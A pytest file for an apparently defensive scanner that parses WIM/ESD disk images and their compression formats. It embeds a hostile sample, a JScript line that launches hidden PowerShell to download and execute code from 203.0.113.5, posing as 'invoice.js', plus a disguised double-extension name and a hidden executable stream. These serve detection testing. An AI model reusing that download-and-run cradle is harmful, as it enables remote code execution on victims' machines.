"""Images of Windows (WIM) and the packings in them: names and contents are read, what is damaged ends."""

from __future__ import annotations

import contextlib
import struct

import pytest
from hypothesis import given
from hypothesis import strategies as st

from safecare.examine.api import Verdicts
from safecare.examine.engine import Engine
from safecare.formats.discs import DiscError
from safecare.formats.discs.wim import Wim
from safecare.formats.packed import LZX, XPRESS, PackedError, chunks, lznt1, lzx, unit_of, xpress
from safecare.testing.fuzz_packed import IMAGES, image

SCRIPT = b'new ActiveXObject("WScript.Shell").Run("powershell -nop -w hidden -c IEX(irm http://203.0.113.5/a)")'
WORDS = b"What was said on the second of March.\r\n" * 20
CALLS = b"".join(b"\x90" * (n % 7) + b"\xe8" + (1000 * n).to_bytes(4, "little") for n in range(60)) + bytes(70000)
METHODS = sorted(IMAGES)


def stored(name: str, raw: bytes, *, flags: int = 0, resource: int = 0, stream: str = "") -> bytes:
    """Return an image with one file that is not packed, with `flags` in its head and of its blob."""
    digest = b"\x01" * 20
    label = name.encode("utf-16-le")
    extra = b""
    if stream:
        what = stream.encode("utf-16-le")
        extra = (struct.pack("<QQ20sH", 38 + len(what), 0, digest, len(what)) + what).ljust(64, b"\0")
    head = struct.pack("<QIiQ", 102 + len(label), 0x20, -1, 0).ljust(64, b"\0")
    file = (head + (bytes(20) if stream else digest)).ljust(96, b"\0")
    file += struct.pack("<HHH", bool(stream), 0, len(label)) + label
    file += bytes(-len(file) % 8) + extra
    root = struct.pack("<QIiQ", 102, 0x10, -1, 120).ljust(104, b"\0") + bytes(8)
    tree = struct.pack("<II", 8, 0) + root + file + bytes(8)
    at, blobs = 208, b""
    for kind, data, mark in ((2, tree, b"\x02" * 20), (resource, raw, digest)):
        blobs += struct.pack("<QQQHI", len(data) | kind << 56, at, len(data), 1, 1) + mark
        at += len(data)
    start = struct.pack("<8sIIII16sHHI", b"MSWIM\0\0\0", 208, 0x10D00, flags, 32768, bytes(16), 1, 1, 1)
    return (start + struct.pack("<QQQ", len(blobs), at, len(blobs))).ljust(208, b"\0") + tree + raw + blobs


@pytest.mark.parametrize("method", METHODS)
def test_an_image_of_another_program_is_read(method: str) -> None:
    wim = Wim(image(method))
    [tree] = wim.trees()
    found = {}
    for one in wim.files(wim.read(tree, 1 << 20)):
        assert one.resource is not None
        assert wim.readable(one.resource)
        found[one.name] = wim.read(one.resource, 1 << 20)
        part = wim.read(one.resource, one.resource.size - 1)  # whole chunks only, where there are any
        assert found[one.name].startswith(part)
    assert found == {"docs/invoice.js": SCRIPT * 4, "notes.txt": WORDS, "calls.bin": CALLS}
    verdict = Engine().judge(image(method), "a.wim")
    assert verdict.verdict in (Verdicts.SUSPICIOUS, Verdicts.MALICIOUS)
    assert {one.where.part for one in verdict.findings} == {"docs_invoice.js"}


def test_what_is_stored_plainly_is_judged() -> None:
    assert Engine().judge(stored("notes.txt", WORDS), "a.wim").verdict is Verdicts.CLEAN
    assert Engine().judge(stored("invoice.js", SCRIPT), "a.wim").score >= 0.5
    found = Engine().judge(stored("notes.txt", b"MZ" + bytes(200), stream="a.exe"), "a.wim")
    assert "name.stream" in {one.rule for one in found.findings}


@pytest.mark.parametrize(
    ("flags", "resource"), [(0x80002, 4), (0x20002, 0x10), (0, 0x08)], ids=["lzms", "solid", "span"]
)
def test_what_is_not_read_is_told_and_its_name_is_judged(flags: int, resource: int) -> None:
    found = Engine().judge(stored("notes.txt", WORDS, flags=flags, resource=resource), "a.esd")
    assert found.verdict is Verdicts.UNREADABLE
    assert [one.rule for one in found.findings] == ["disc.closed"]
    found = Engine().judge(stored("scan.pdf.exe", WORDS, flags=flags, resource=resource), "a.esd")
    assert {one.rule for one in found.findings} == {"disc.closed", "name.double"}


def test_more_images_than_any_has_are_a_limit() -> None:
    raw = stored("notes.txt", WORDS)
    tree = raw[-100:-50]
    many = raw[:48] + struct.pack("<QQQ", 5050, len(raw) - 100, 5050) + raw[72:-100] + tree * 100 + raw[-50:]
    assert [one.rule for one in Engine().judge(many, "a.wim").findings] == ["limit.members"]


def test_lznt1() -> None:
    """[MS-XCA] 3.3 describes the form; the second chunk repeats with distances that need more bits."""
    plain = struct.pack("<H", 0x3000 | 3) + b"abcd"
    packed = b"\x08abc" + struct.pack("<H", 2 << 12 | 9 - 3)  # three letters, then nine from three before
    chunk = struct.pack("<H", 0xB000 | len(packed) - 1) + packed
    assert lznt1(plain + chunk + bytes(2), 100) == b"abcd" + b"abc" * 4
    assert lznt1(plain + chunk, 6) == b"abcdab"
    assert unit_of(chunk, 32, 20) == (b"abc" * 4).ljust(32, b"\0")
    assert unit_of(b"", 8, 0) == bytes(8)
    assert unit_of(b"x" * 8, 8, 8) == b"x" * 8
    with pytest.raises(PackedError, match="before its begin"):
        lznt1(struct.pack("<H", 0xB002) + b"\x01\0\0", 100)


def test_chunks_that_no_writer_makes_are_refused() -> None:
    for size, chunk, method in ((10, 1, XPRESS), (10, 1 << 22, LZX), (10, 32768, "lzms")):
        with pytest.raises(PackedError, match="size"):
            chunks(b"x" * 10, size, chunk, method, 10)
    with pytest.raises(PackedError, match="cut off"):
        chunks(b"x" * 10, 10 * 4096, 4096, XPRESS, 10)
    assert chunks(b"x" * 10, 10, 4096, XPRESS, 4) == b""
    assert chunks(struct.pack("<I", 4096) + b"x" * 4106, 4106, 4096, XPRESS, 4100) == b"x" * 4096


@given(st.binary(max_size=600), st.integers(1, 40000))
def test_packed_data_by_chance_ends(raw: bytes, size: int) -> None:
    with contextlib.suppress(PackedError):
        assert len(xpress(raw, size)) == size
    with contextlib.suppress(PackedError):
        assert len(lzx(raw, size)) == size
    with contextlib.suppress(PackedError):
        assert len(lznt1(raw, size)) <= size


@given(
    st.sampled_from(METHODS),
    st.lists(st.tuples(st.integers(0, 1 << 20), st.binary(min_size=1, max_size=8)), max_size=6),
)
def test_damaged_images_end(method: str, changes: list[tuple[int, bytes]]) -> None:
    raw = bytearray(image(method))
    for at, data in changes:
        place = at % (len(raw) - len(data))
        raw[place : place + len(data)] = data
    try:
        wim = Wim(bytes(raw))
        for tree in wim.trees():
            for one in wim.files(wim.read(tree, 10_000)):
                if one.resource and wim.readable(one.resource):
                    wim.read(one.resource, 10_000)
    except DiscError:
        pass
    assert Engine().judge(bytes(raw), "a.wim").verdict in Verdicts
